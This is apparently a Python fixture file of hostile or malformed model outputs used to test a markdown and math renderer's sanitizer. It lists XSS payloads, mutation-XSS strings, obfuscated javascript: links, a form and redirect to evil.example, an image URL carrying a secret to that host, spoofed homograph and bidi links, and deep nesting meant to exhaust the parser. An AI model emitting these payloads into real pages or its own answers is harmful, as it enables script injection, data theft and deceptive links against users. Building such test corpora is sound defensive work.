"""Answers of a hostile or unlucky model, by name. What must be true of each stands in the tests."""

ALERT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
DEEP = "\\sqrt{" * 300 + "}" * 300

HOSTILE = {
    "script": f"a {ALERT} b\n\n{ALERT}\n\n&lt;script&gt;alert(1)&lt;/script&gt;",
    "elements": f"<svg/onload=alert(1)>{IMAGE}<iframe srcdoc='{ALERT}'></iframe>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\n\n'
    f'<svg></p><style><a id="</style>{IMAGE}">\n\n<noscript><p title="</noscript>{IMAGE}">\n\n'
    "a <!-- hidden --> b",
    "page": "</div></main></body></html>\n\n<base href=https://evil.example/>\n\n<style>*{display:none}</style>\n\n"
    "<meta http-equiv=refresh content='0;url=https://evil.example'>\n\n"
    "<form action=https://evil.example><input name=q>",
    "addresses": "[x](JaVaScRiPt&colon;alert(1)) [x](java\tscript:alert(1)) [x](java\0script:alert(1)) "
    f"[x](vbscript:msgbox) [x](data:text/html,{ALERT}) [x](file:///etc/passwd) [x](/a/1/delete/) "
    "[x](//evil.example/a) [x](#page) <javascript:alert(1)> [x](mailto:a@b.example) "
    "[x](&#x6a;avascript:alert(1)) javascript://a.example/%0aalert(1)",
    "images": "![c](https://evil.example/1.png) ![c][i] "
    "[![a](https://evil.example/2.png)](https://evil.example/3) "
    '<img src="https://evil.example/4.png">\n\n[i]: https://evil.example/?q=SECRET',
    "quotes": '[x](https://a.example/"onmouseover="alert(1)) '
    '[y](https://a.example "t\\" onclick=\\"alert(1)")\n\n'
    '```py"onclick="alert(1)\nx\n```',
    "hosts": "[bank](https://bank.example@evil.example/) [\u202emoc.elgoog](https://evil.example) "
    "[https://bank.example](https://evil.example) [a](https://\u0430\u0440\u0440\u04cf\u0435.example) "
    "[b](https://e\u200bvil.example/\u202e)",
    "characters": "a\0b\x07c\x1b[31md &#xD800; &#x110000; &#0; \u202eabc \U000e0041\U000e0042 `\u202ecode`",
    "code": "`&lt;b&gt;` `\\(x\\)`\n\n> ```\n> a\nb\n\n"
    f"```tex\n\\(x\\) $y$ </code></pre>{ALERT}\n```\n\n```python\nx = 1\n<script>",
    "depth": "> " * 300 + "a\n\n" + "- " * 300 + "b\n\n" + "*a " * 300 + "b" + "*" * 300,
    "table": "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + "|b" * 3000 + "|",
    "cells": "a|" * 5000,
    "names": "# composer\n\n## page\n\na[^1] b[^x]\n\n- [x] <b>a</b>\n\n[^1]: one\n\n[^x]: </div>two",
    "maths": "\\(\\href{javascript:alert(1)}{x}\\) \\(\\includegraphics{https://evil.example/x.png}\\) "
    f"\\(\\hspace{{-999em}}x\\) \\(\\operatorname{{</math>{ALERT}}}\\) \\(\\text{{{IMAGE}}}\\)\n\n"
    "\\[\\def\\a{\\a\\a}\\a\\]\n\n\\[\\begin{equation}x\\label{page}\\end{equation}\\]\n\n"
    f"$${DEEP}$$\n\n\\({'(' * 300}\\)\n\n$$\\begin{{align}}a&=b\\end{{align}}$$",
    "money": "It costs $5 and $10, or US$3 to HK$4; $HOME/$USER; $990/mo",
}
